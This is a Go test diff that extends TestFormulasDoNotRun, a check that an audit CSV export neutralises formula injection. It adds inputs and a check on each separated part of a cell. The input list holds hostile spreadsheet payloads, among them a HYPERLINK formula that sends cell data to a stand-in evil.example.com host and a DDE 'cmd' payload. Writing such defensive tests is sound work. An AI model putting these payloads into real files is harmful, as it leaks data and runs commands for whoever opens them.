@@ -55,7 +55,7 @@ func TestCSVIsTheSameTable(t *testing.T) {
 // TestFormulasDoNotRun in the spreadsheet of whoever reads the audit.
 func TestFormulasDoNotRun(t *testing.T) {
 	f := newFixture(t)
-	formulas := []string{`=HYPERLINK("https://evil.example.com?"&A1)`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\r=1", "  =1", "＝1+1", "\"quoted\",\r\n=2"}
+	formulas := []string{`=HYPERLINK("https://evil.example.com?"&A1)`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\r=1", "  =1", "＝1+1", "\"quoted\",\r\n=2", "x;=3", "x; \"=4", "x\t@SUM(5)"}
 	for _, name := range formulas {
 		f.happened(t, called{principal: name, agent: name, server: "notes", binding: "dev-notes", reference: "aws-sm:prod/notes", requestID: name, at: time.Now()})
 	}
@@ -68,6 +68,11 @@ func TestFormulasDoNotRun(t *testing.T) {
 			for _, cell := range row {
 				if strings.IndexAny(strings.TrimLeft(cell, " "), "=+-@\t\r\n＝") == 0 {
 					t.Errorf("a cell is %q", cell)
+				}
+				for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
+					if strings.IndexAny(strings.TrimLeft(part, " \""), "=+-@＝") == 0 {
+						t.Errorf("a part of a cell is %q", part)
+					}
 				}
 			}
 		}
